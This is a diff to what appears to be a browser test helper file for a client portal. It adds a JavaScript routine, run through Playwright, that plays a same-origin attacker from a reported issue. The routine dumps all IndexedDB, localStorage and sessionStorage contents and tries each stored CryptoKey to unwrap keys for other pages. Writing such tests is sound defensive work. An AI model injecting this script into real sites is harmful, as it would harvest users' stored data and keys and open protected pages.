@@ -155,6 +155,65 @@ def watched(context) -> Watched:
     return Watched(context.new_page())
 
 
+# What a script of the same origin (the public home page, say) can do with what the browser
+# keeps: read every IndexedDB record, localStorage and sessionStorage entry; use every
+# CryptoKey it finds to open the page its record names, as the issue's attacker did.
+SAME_ORIGIN_ATTACK_JS = """async (prefix) => {
+  const found = { keys: 0, opened: [], stored: [] };
+  const b64 = (t) => Uint8Array.from(atob(t.replace(/-/g, "+").replace(/_/g, "/")), (c) => c.charCodeAt(0));
+  const all = (store) => new Promise((resolve) => {
+    const out = [];
+    const walk = store.openCursor();
+    walk.onsuccess = () => {
+      const at = walk.result;
+      if (!at) return resolve(out);
+      out.push([at.key, at.value]);
+      at.continue();
+    };
+    walk.onerror = () => resolve(out);
+  });
+  async function tryKey(name, key, id) {
+    const response = await fetch("/" + prefix + "/" + name + "/");
+    const html = await response.text();
+    const json = html.split('id="cp-payload">')[1];
+    if (!json) return;
+    const payload = JSON.parse(json.split("</script>")[0]);
+    for (const entry of payload.keys) {
+      try {
+        const aad = new TextEncoder().encode("client-portal/1/key/" + name + "/" + entry.id);
+        const sealed = { name: "AES-GCM", iv: b64(entry.iv), additionalData: aad };
+        await crypto.subtle.unwrapKey("raw", b64(entry.data), key, sealed, "AES-GCM", false, ["decrypt"]);
+        found.opened.push(name);
+        return;
+      } catch (e) { /* not this copy */ }
+    }
+  }
+  for (const info of await indexedDB.databases()) {
+    const db = await new Promise((resolve) => {
+      const opening = indexedDB.open(info.name);
+      opening.onsuccess = () => resolve(opening.result);
+    });
+    for (const storeName of db.objectStoreNames) {
+      for (const [name, value] of await all(db.transaction(storeName, "readonly").objectStore(storeName))) {
+        found.stored.push(JSON.stringify([name, value]));
+        const key = value && value.key;
+        if (key instanceof CryptoKey) { found.keys += 1; await tryKey(String(name), key, value.id); }
+      }
+    }
+    db.close();
+  }
+  for (const storage of [localStorage, sessionStorage]) {
+    for (let i = 0; i < storage.length; i++) found.stored.push(storage.key(i) + "=" + storage.getItem(storage.key(i)));
+  }
+  return found;
+}"""
+
+
+def same_origin_attack(page: Page, prefix: str = "p") -> dict[str, object]:
+    """Run `SAME_ORIGIN_ATTACK_JS` in ``page``: CryptoKeys found, pages they open, everything stored."""
+    return dict(page.evaluate(SAME_ORIGIN_ATTACK_JS, prefix))
+
+
 KEPT_KEYS_JS = """() => new Promise((resolve, reject) => {
   const opening = indexedDB.open("client-portal", 1);
   opening.onupgradeneeded = () => opening.result.createObjectStore("keys");
